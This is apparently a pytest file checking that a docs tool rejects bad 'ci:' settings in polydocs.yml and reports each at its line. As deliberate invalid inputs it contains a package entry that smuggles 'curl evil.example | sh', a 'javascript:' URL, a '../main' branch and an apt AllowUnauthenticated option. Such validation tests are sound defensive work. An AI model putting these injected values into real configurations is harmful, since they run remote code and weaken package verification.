"""`ci:` of polydocs.yml: each problem at its own line with what `ci:` takes, and the hooks as the
workflows read them (`polydocs ci hooks`): packages one per line, the pre-command as a script's text."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from polydocs.diagnostics import PolydocsError
from polydocs.sources.ci_settings import CiSettings
from polydocs.sources.project import load_project_config

REPO = Path(__file__).resolve().parents[2]


def _settings(tmp_path: Path, text: str) -> Path:
    (tmp_path / "polydocs.yml").write_text(text, encoding="utf-8")
    return tmp_path


def test_every_bad_key_is_reported_at_its_line(tmp_path: Path) -> None:
    root = _settings(
        tmp_path,
        "site_name: Docs\n"
        "ci:\n"
        "  system_packages: [libgl1, 'ffmpeg; curl evil.example | sh']\n"
        "  pages_branch: ../main\n"
        "  pages_url: javascript:alert(1)\n"
        "  preview: sometimes\n"
        "  install_libgl1: true\n",
    )
    with pytest.raises(PolydocsError) as raised:
        load_project_config(root)
    found = {(d.line, d.code) for d in raised.value.diagnostics}
    assert found == {(3, "config"), (4, "config"), (5, "config"), (6, "config"), (7, "config")}
    said = str(raised.value)
    assert "polydocs.yml:3: config expected a list of Debian package names" in said
    assert "polydocs.yml:7: config unknown setting `ci.install_libgl1`" in said
    assert "`ci:` takes system_packages, pre_command, pages_branch, pages_url, preview" in said


def test_a_ci_that_is_no_mapping_is_reported_at_its_key(tmp_path: Path) -> None:
    with pytest.raises(PolydocsError) as raised:
        load_project_config(_settings(tmp_path, "site_name: Docs\nci: [libgl1]\n"))
    assert [d.line for d in raised.value.diagnostics] == [2]


def test_valid_settings_are_read_and_absent_ones_are_the_defaults(tmp_path: Path) -> None:
    root = _settings(
        tmp_path,
        "ci:\n  system_packages: [libgl1, ffmpeg=7:6.1]\n  preview: false\n  pages_branch: docs-pages\n",
    )
    assert load_project_config(root).ci == CiSettings(
        system_packages=("libgl1", "ffmpeg=7:6.1"), preview="off", pages_branch="docs-pages"
    )
    assert CiSettings().preview == "same-repository"  # a fork's site is not published by default
    for written, read in (
        ("true", "same-repository"),
        ("all", "all"),
        ("same-repository", "same-repository"),
    ):
        (tmp_path / "polydocs.yml").write_text(f"ci:\n  preview: {written}\n", encoding="utf-8")
        assert load_project_config(tmp_path).ci.preview == read
    assert load_project_config(tmp_path / "nowhere").ci == CiSettings()


def _hooks(hook: str, source: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    command = [sys.executable, "-m", "polydocs", "ci", "hooks", hook, "--source", str(source)]
    return subprocess.run(command, env=env, capture_output=True, text=True)


def test_the_hooks_print_what_the_workflow_reads(tmp_path: Path) -> None:
    root = _settings(
        tmp_path, 'ci:\n  system_packages: [libgl1, ffmpeg]\n  pre_command: echo "$HOME" > out\n'
    )
    assert _hooks("system-packages", root).stdout == "libgl1\nffmpeg\n"
    assert _hooks("pre-command", root).stdout == 'echo "$HOME" > out\n'
    assert _hooks("pre-command", tmp_path / "nowhere").stdout == ""


def test_a_bad_setting_fails_the_hook_step_at_its_line(tmp_path: Path) -> None:
    root = _settings(tmp_path, "ci:\n  system_packages: ['-o APT::Get::AllowUnauthenticated=1']\n")
    done = _hooks("system-packages", root)
    assert done.returncode == 1 and done.stdout == ""
    assert "polydocs.yml:2: config expected a list of Debian package names" in done.stderr
